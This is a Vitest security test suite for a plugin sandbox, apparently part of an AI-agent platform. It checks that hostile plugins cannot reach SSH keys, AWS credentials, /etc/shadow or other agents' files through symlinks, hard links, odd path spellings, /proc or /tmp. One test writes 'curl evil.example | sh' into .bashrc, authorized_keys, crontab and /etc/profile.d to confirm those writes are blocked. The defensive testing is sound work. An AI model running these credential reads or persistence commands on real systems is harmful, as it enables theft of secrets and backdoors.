import { link, mkdir, readdir, readFile, symlink, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { type Attacker, HostileWorld, loot, type Tools } from "./support.ts";

/** Files that plugins want: the person's, Patchbay's, those of other plugins and of other agents. */
let world: HostileWorld;
/** Declares nothing. */
let mallory: Attacker;
/** May use the workspace. */
let writer: Attacker;
let workspace: string;

beforeAll(async () => {
  world = await HostileWorld.open();
  workspace = join(world.home, "agents/helper/workspace");
  mallory = await world.plugin("mallory");
  writer = await world.plugin("writer", { files: "workspace" });
});
afterAll(() => world[Symbol.asyncDispose]());

const read = ({ require, arg }: Tools) => require("node:fs").readFileSync(arg, "utf8");
const list = ({ require, arg }: Tools) => require("node:fs").readdirSync(arg);

/** Writes a file with loot for an attack to go for. */
async function loots(path: string): Promise<string> {
  await mkdir(dirname(path), { recursive: true });
  await writeFile(path, loot);
  return path;
}

test.each([".ssh/id_ed25519", ".aws/credentials"])("a plugin that reads ~/%s finds nothing", async (name) => {
  const path = join(world.person, name);
  const got = await mallory.run(read, path);
  expect(got.value ?? "").toBe("");
  expect(await mallory.seen("files", path)).toMatchObject({ seenBy: "wall" });
});

test("a plugin that lists ~/.ssh and what else is there sees no file of the person", async () => {
  const got = await mallory.run(list, join(world.person, ".ssh"));
  world.expectNothing(got);
  const letters = await mallory.run(list, join(world.person, "letters"));
  expect(letters.value).toBeUndefined();
  await mallory.seen("files", join(world.person, ".ssh"));
});

test.each(["gateway.json", "vault.key", "vault.json", "access.json"])(
  "a plugin that reads Patchbay's %s does not get it",
  async (name) => {
    const got = await mallory.run(read, join(world.home, name));
    expect(got.value ?? "").toBe("");
    expect(await mallory.seen("files", join(world.home, name))).toMatchObject({ seenBy: "wall" });
  },
);

test("a plugin that looks for agents in Patchbay's folder finds none, nor their rows", async () => {
  await world.app.rest("POST", "/agents", { id: "other", name: "Other" });
  const row = join(world.home, "agents/other/agent.json");
  expect(await readFile(row, "utf8")).toContain("Other");
  for (const attacker of [mallory, writer]) {
    const got = await attacker.run(list, join(world.home, "agents"));
    expect(JSON.stringify(got)).not.toContain("other");
    expect((await attacker.run(read, row)).value).toBeUndefined();
    await attacker.seen("files", join(world.home, "agents"));
    expect(await attacker.seen("files", row)).toMatchObject({ seenBy: "wall" });
  }
});

test("a plugin does not get the workspace of another agent, nor its own agent's without permission", async () => {
  const others = await loots(join(world.home, "agents/other/workspace/plan.txt"));
  const own = await loots(join(workspace, "plan.txt"));
  world.expectNothing(await writer.run(read, others));
  world.expectNothing(await mallory.run(read, others));
  world.expectNothing(await mallory.run(read, own));
  await writer.seen("files", others);
  expect(await mallory.seen("files", others)).toMatchObject({ seenBy: "wall" });
  await mallory.seen("files", own);
  // With the permission the same code works.
  expect((await writer.run(read, own)).value).toBe(loot);
});

test("a plugin does not get the files of another plugin, nor what that one stored", async () => {
  await writer.run(({ require, arg }) => require("node:fs").writeFileSync("stored.txt", arg), loot);
  const everything = await readdir(world.home, { recursive: true });
  const code = everything.find((path) => /^plugins\/.*writer.*\/index\.js$/.test(path)) ?? "";
  const rows = everything.find((path) => /^agents\/helper\/agent-plugins\.json$/.test(path)) ?? "";
  const theirs = [code, rows, "agents/helper/workspace/stored.txt"].map((path) => join(world.home, path));
  for (const path of theirs) {
    expect((await readFile(path, "utf8")).length).toBeGreaterThan(0);
    const got = await mallory.run(read, path);
    expect(got.error).toMatchObject({ code: "ENOENT" });
    world.expectNothing(got);
    expect(await mallory.seen("files", path)).toMatchObject({ seenBy: "wall" });
  }
  const listed = await mallory.run(list, join(world.home, "plugins"));
  expect(JSON.stringify(listed)).not.toContain("writer");
});

test("links in the workspace that lead out lead nowhere", async () => {
  const secret = join(world.person, "letters/to-the-bank.txt");
  await symlink(secret, join(workspace, "letter"));
  await symlink(world.home, join(workspace, "patchbay"));
  await symlink("/", join(workspace, "root"));
  const got = await writer.run(({ require, arg, each }) => {
    const fs = require("node:fs");
    return each({
      file: () => fs.readFileSync("letter", "utf8"),
      folder: () => fs.readFileSync("patchbay/gateway.json", "utf8"),
      root: () => fs.readFileSync(`root${arg}`, "utf8"),
      passwd: () => fs.readFileSync("root/etc/shadow", "utf8"),
    });
  }, secret);
  world.expectNothing(got);
  expect(got.value).toMatchObject({ file: { stopped: "ENOENT" }, passwd: { stopped: "ENOENT" } });
  expect(await writer.seen("files", secret)).toMatchObject({ seenBy: "wall" });
  await writer.seen("files", join(world.home, "gateway.json"));
  await writer.seen("files", "/etc/shadow");
});

test("a link that a plugin makes itself, of either kind, does not lead out", async () => {
  const secret = join(world.person, "letters/to-the-bank.txt");
  const got = await writer.run(({ require, arg, each }) => {
    const fs = require("node:fs");
    return each({
      soft: () => fs.symlinkSync(arg, "soft"),
      hard: () => fs.linkSync(arg, "hard"),
      hardInside: () => fs.linkSync("/etc/passwd", "hard"),
      relative: () => fs.symlinkSync("../../../gateway.json", "relative"),
      read: () => fs.readFileSync("soft", "utf8"),
    });
  }, secret);
  world.expectNothing(got);
  for (const name of ["soft", "hard", "relative"])
    await expect(readFile(join(workspace, name), "utf8")).rejects.toThrow("ENOENT");
  await writer.seen("files", "/etc/passwd");
});

test("odd spellings of a path lead to the same wall", async () => {
  const secret = join(world.person, "letters/to-the-bank.txt");
  const got = await mallory.run(({ require, arg, each }) => {
    const fs = require("node:fs");
    return each({
      slashes: () => fs.readFileSync(`//${arg}`, "utf8"),
      dots: () => fs.readFileSync(`/tmp/../${arg}`, "utf8"),
      url: () => fs.readFileSync(new URL(`file://${arg}`), "utf8"),
      escaped: () => fs.readFileSync(new URL(`file://${arg.replace("letters", "%6cetters")}`), "utf8"),
      bytes: () => fs.readFileSync(Buffer.from(arg), "utf8"),
      nul: () => fs.readFileSync(`/tmp/x\0/../../${arg}`, "utf8"),
      long: () => fs.readFileSync(`/tmp${"/./".repeat(1_000)}..${arg}`, "utf8"),
      etc: () => fs.readFileSync("/tmp/..//etc/./shadow", "utf8"),
    });
  }, secret);
  world.expectNothing(got);
  await mallory.seen("files", "/etc/./shadow");
});

test("the ways through /proc to the root of the system lead nowhere", async () => {
  const secret = join(world.person, "letters/to-the-bank.txt");
  const got = await mallory.run(({ require, arg, each }) => {
    const fs = require("node:fs");
    const ways = ["self/root", "self/cwd/../..", "1/root", `${process.ppid}/root`, "thread-self/root"];
    return each(
      Object.fromEntries(ways.map((way) => [way, () => fs.readFileSync(`/proc/${way}${arg}`, "utf8")])),
    );
  }, secret);
  world.expectNothing(got);
  await mallory.seen("files", `/proc/1/root${secret}`);
});

test("a plugin that is installed with links and hard links to secrets in its folder does not get them", async () => {
  const source = world.source("linker");
  await mkdir(source, { recursive: true });
  await symlink(join(world.person, ".ssh/id_ed25519"), join(source, "key.txt"));
  await symlink("/", join(source, "all"));
  const linker = await world.plugin("linker").catch((error: Error) => error);
  if (linker instanceof Error) {
    // The archive's own wall refuses it with a reason: better still.
    expect(linker.message).toMatch(/link/i);
    return;
  }
  const got = await linker.run(
    ({ require, arg, each }) => {
      const fs = require("node:fs");
      const { dirname } = require("node:path");
      const here = dirname(require.resolve("./package.json"));
      return each({
        key: () => fs.readFileSync(`${here}/key.txt`, "utf8"),
        all: () => fs.readFileSync(`${here}/all${arg}`, "utf8"),
      });
    },
    join(world.person, "letters/to-the-bank.txt"),
  );
  world.expectNothing(got);
});

test("a plugin that writes to shell profiles, autostart, crontab and /etc changes nothing", async () => {
  const got = await mallory.run(({ require, arg, each }) => {
    const fs = require("node:fs");
    const write = (path: string) => () => fs.appendFileSync(path, "curl evil.example | sh\n");
    return each({
      profile: write(`${arg}/.bashrc`),
      autostart: write(`${arg}/.config/autostart/evil.desktop`),
      keys: write(`${arg}/.ssh/authorized_keys`),
      etc: write("/etc/profile.d/evil.sh"),
      crontab: write("/var/spool/cron/crontabs/root"),
    });
  }, world.person);
  expect(got.value).toMatchObject({
    etc: { stopped: "ERR_ACCESS_DENIED" },
    crontab: { stopped: "ERR_ACCESS_DENIED" },
  });
  for (const name of [".bashrc", ".config/autostart/evil.desktop", ".ssh/authorized_keys"]) {
    await expect(readFile(join(world.person, name), "utf8")).rejects.toThrow("ENOENT");
    expect(await mallory.seen("files", join(world.person, name))).toMatchObject({ seenBy: "wall" });
  }
  await mallory.seen("files", "/etc/profile.d/evil.sh");
  await mallory.seen("files", "/var/spool/cron/crontabs/root");
});

test("the /tmp of a plugin is its own: nobody sees another's files there (nothing to see: it is empty)", async () => {
  await mallory.run(({ require, arg }) => require("node:fs").writeFileSync("/tmp/of-mallory", arg), loot);
  world.expectNothing(await writer.run(read, "/tmp/of-mallory"));
  expect((await mallory.run(read, "/tmp/of-mallory")).value).toBe(loot);
  // A Patchbay that itself lies below /tmp leads to its own files there, and Node then refuses to list it.
  const others = (await readdir("/tmp")).filter((name) => !import.meta.dirname.startsWith(`/tmp/${name}/`));
  const inside = ((await mallory.run(list, "/tmp")).value ?? []) as string[];
  expect(inside.filter((name) => others.includes(name))).toEqual([]);
  await expect(readFile("/tmp/of-mallory")).rejects.toThrow("ENOENT");
});

test("a folder linked into the workspace by a hard link stays what the person put there", async () => {
  // A hard link is the file itself: who puts it into the workspace gives it. The wall around the rest of it holds.
  await link(await loots(join(world.folder, "given.txt")), join(workspace, "given.txt"));
  expect((await writer.run(read, join(workspace, "given.txt"))).value).toBe(loot);
  world.expectNothing(await writer.run(read, join(world.folder, "given.txt")));
  await writer.seen("files", join(world.folder, "given.txt"));
});
